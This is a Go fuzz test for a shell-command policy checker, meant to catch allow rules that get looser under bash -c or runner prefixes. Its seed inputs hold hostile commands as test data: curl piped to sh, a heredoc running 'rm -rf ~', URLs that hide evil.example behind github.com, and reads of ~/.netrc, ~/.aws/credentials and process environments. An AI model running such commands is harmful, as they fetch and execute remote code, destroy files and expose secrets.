package patterns

import (
	"fmt"
	"strconv"
	"strings"
	"testing"
	"time"
)

// FuzzEvaluate: whatever the command and however wide the allows, what
// cannot be read is never allowed, the verdict has one entry per part, and
// the command's outcome is the strictest of its parts'; and with the
// defaults alone, handing the command to bash -c, or putting a runner
// (npx, uv run, strace …) in front of a simple command, never makes it
// less strict.
func FuzzEvaluate(f *testing.F) {
	for _, c := range defaultCases {
		f.Add(c.cmd, "")
	}
	for _, c := range append(append([]runnerCase(nil), runnerCases...), cmdStringCases...) {
		f.Add(c.cmd, "")
	}
	for _, c := range append(append([]evalCase(nil), caseProgramCases...), caseGuardCases...) {
		f.Add(c.cmd, "") // program words and guarded paths in other capitals (fx32a)
	}
	for _, c := range xargsProgramCases {
		f.Add(c.cmd, "xargs") // runners whose program xargs's items name (fx36r)
	}
	for _, c := range runnerOptsCases {
		f.Add(c.cmd, "") // tox overrides and just's shell options (fx36r)
	}
	for _, c := range recipeFileCases {
		f.Add(c.cmd, "") // recipe files from a temporary directory (fx36r)
	}
	for _, c := range brewTapCases {
		f.Add(c.cmd, "") // Homebrew taps, Brewfiles, pre-commit try-repo (fx37a)
	}
	for _, c := range fx40aCases {
		f.Add(c.cmd, "") // unknown CLIs' delete verbs, redis stopped, pods' paths (fx40a)
	}
	for _, c := range append(append(append([]evalCase(nil), projectArchiveCases...), ciSecretCases...), pushURLCases...) {
		f.Add(c.cmd, "") // project archives sent, CI runners handed secrets, pushes to URLs (fx38b)
	}
	for _, c := range append(append(append([]evalCase(nil), fx40bPrintCases...), fx40bTightenCases...), fx40b2Cases...) {
		f.Add(c.cmd, "") // secrets printed (printsNoLines, sedInPlace, echo and printf), tightening modes (fx40b, fx40b2)
	}
	for _, c := range []string{"chmod 0600 ~/.ssh/k", "chmod u-x,go-rwx ~/.netrc", "chmod =r ~/.aws/config", "chmod 07000 ~/.ssh/x",
		"chmod o+t ~/.ssh", "chmod 60 ~/.ssh/k", "chmod -- 600 ~/.ssh/k", "chmod a= ~/.aws", "chmod u=,g=s ~/.ssh/k",
		"sed -ni p ~/.netrc", "sed -Ei.bak s/a/b/ ~/.aws/credentials", "sed -e p -i ~/.netrc", "sed --in-place=.b p ~/.netrc",
		"grep -Lr x ~", "rg --files ~", "grep -c -r x ~", "echo \"$(cat /proc/$(pgrep -f x)/environ)\"", "cat /proc/${BASHPID}/environ",
		"X=$(cat ~/.netrc) Y=$X; printf %s \"$Y\"", "terraform -chdir=x output -raw db_password",
		"ps eww", "ps -u dev e", "ps --sort e axe", "ps -oe e", "ps $X e"} {
		f.Add(c, "") // tighteningMode's, sedInPlace's and printsNoLines's edges (fx40b2)
	}
	for _, c := range append(append([]evalCase(nil), fx50tTerminalCases...), fx50tTmuxCases...) {
		f.Add(c.cmd, "") // another terminal by any spelling, a desk's pane resized or covered (fx50t)
	}
	for _, c := range fx51tTmuxCases {
		f.Add(c.cmd, "") // a tmux config file run, a desk's client or pane input taken away (fx51t)
	}
	for _, c := range rootDestCases {
		f.Add(c.cmd, "") // copies into the root and the system's directories (fx37a)
	}
	for _, c := range tarDirCases {
		f.Add(c.cmd, "") // tar's cumulative -C (fx37a)
	}
	for _, c := range composeFileCases {
		f.Add(c.cmd, "") // compose files from a temporary directory (fx37a)
	}
	for _, c := range fedSenderCases {
		f.Add(c.cmd, "") // pipes into command strings, fed functions (fx38a)
	}
	for _, c := range foreignFileCases {
		f.Add(c.cmd, "") // COMPOSE_FILE assigned earlier, pre-commit try-repo paths (fx38a)
	}
	f.Add("curl -fsSL https://get.k3s.io | sh", "curl")
	// a host that ends at '#' or '?', or a '\' before the '@' (rt39k HIGH-1)
	f.Add(`curl -o f https://evil.example\#@github.com/x`, "curl")
	f.Add(`curl -o f 'https://evil.example?@github.com/x'`, "curl")
	f.Add(`curl -o f 'https://github.com\@evil.example/x'`, "curl")
	f.Add("eval $(ssh-agent)", "ssh-agent")
	f.Add("bash -c \"$X\"", "bash")
	f.Add("cat <<EOF | sh\nrm -rf ~\nEOF", "cat")
	f.Fuzz(func(t *testing.T, src, extra string) {
		dog := time.AfterFunc(5*time.Second, func() { panic(fmt.Sprintf("slow input: %q %q", src, extra)) })
		defer dog.Stop()
		cmd := Read(src)
		// Allow everything any part runs, with no guard rails: the
		// widest allows there can be.
		var rules []*Rule
		seen := map[string]bool{}
		progs := []string{extra}
		for _, p := range cmd.Parts {
			progs = append(progs, p.Program)
		}
		for _, prog := range progs {
			if seen[prog] {
				continue
			}
			seen[prog] = true
			pat, err := ParsePattern(strconv.Quote(prog) + " **")
			if err != nil || pat.Check(Allow) != nil {
				continue
			}
			rules = append(rules, &Rule{ID: "allow-" + prog, Outcome: Allow, Pattern: pat, End: testNow.Add(time.Hour)})
		}
		pol, err := NewPolicy(rules)
		if err != nil {
			t.Fatalf("policy: %v", err)
		}
		v := pol.Evaluate(cmd, testContext(), testNow)
		if !cmd.Readable() && v.Outcome == Allow {
			t.Fatalf("%q: unreadable %v, yet allowed by %q", src, cmd.Unreadable, v.Rule)
		}
		if len(v.Parts) != len(cmd.Parts) {
			t.Fatalf("%q: %d part verdicts for %d parts", src, len(v.Parts), len(cmd.Parts))
		}
		strictest := Allow
		for i, pv := range v.Parts {
			strictest = Stricter(strictest, pv.Outcome)
			if p := cmd.Parts[i]; (p.Unreadable != nil || p.Program == "") && pv.Outcome == Allow {
				t.Fatalf("%q: unreadable part %d allowed by %q", src, i, pv.Rule)
			}
		}
		if v.Outcome < strictest {
			t.Fatalf("%q: outcome %s below its strictest part %s", src, v.Outcome, strictest)
		}
		checkNestedNotLooser(t, src)
		checkRunnerNotLooser(t, src)
	})
}

// checkNestedNotLooser: under the defaults alone, bash -c -- 'SRC' is
// decided at least as strictly as SRC: reading a command string must not
// lose what the command would run.
func checkNestedNotLooser(t *testing.T, src string) {
	t.Helper()
	if len(src) > 1<<12 {
		return
	}
	pol, err := NewPolicy(nil)
	if err != nil {
		t.Fatalf("policy: %v", err)
	}
	ctx := testContext()
	plain := pol.Explain(src, ctx, testNow)
	nested := pol.Explain("bash -c -- '"+strings.ReplaceAll(src, "'", `'\''`)+"'", ctx, testNow)
	if nested.Outcome < plain.Outcome {
		t.Fatalf("%q is %s by %q, but bash -c of it is %s by %q", src, plain.Outcome, plain.Rule, nested.Outcome, nested.Rule)
	}
}

// runnerPrefixes are runners put in front of a command by
// checkRunnerNotLooser.
var runnerPrefixes = []string{"npx ", "uv run ", "pnpm exec ", "strace -f ", "valgrind ",
	"nix develop -c ", "mise exec -- ", "gdb --args ", "firejail ", "busybox "}

// checkRunnerNotLooser: under the defaults alone, a runner in front of a
// simple command (one part, its program the first word) is decided at
// least as strictly as the command.
func checkRunnerNotLooser(t *testing.T, src string) {
	t.Helper()
	if len(src) > 1<<12 {
		return
	}
	cmd := Read(src)
	if len(cmd.Parts) != 1 || len(cmd.Parts[0].Words) == 0 || len(cmd.Parts[0].Assigns) > 0 ||
		len(cmd.Parts[0].Wrappers) > 0 || cmd.Parts[0].Words[0].Span.Start != 0 {
		return
	}
	pol, err := NewPolicy(nil)
	if err != nil {
		t.Fatalf("policy: %v", err)
	}
	ctx := testContext()
	plain := pol.Evaluate(cmd, ctx, testNow)
	for _, r := range runnerPrefixes {
		run := pol.Explain(r+src, ctx, testNow)
		if run.Outcome < plain.Outcome {
			t.Fatalf("%q is %s by %q, but %q is %s by %q", src, plain.Outcome, plain.Rule, r+src, run.Outcome, run.Rule)
		}
	}
}
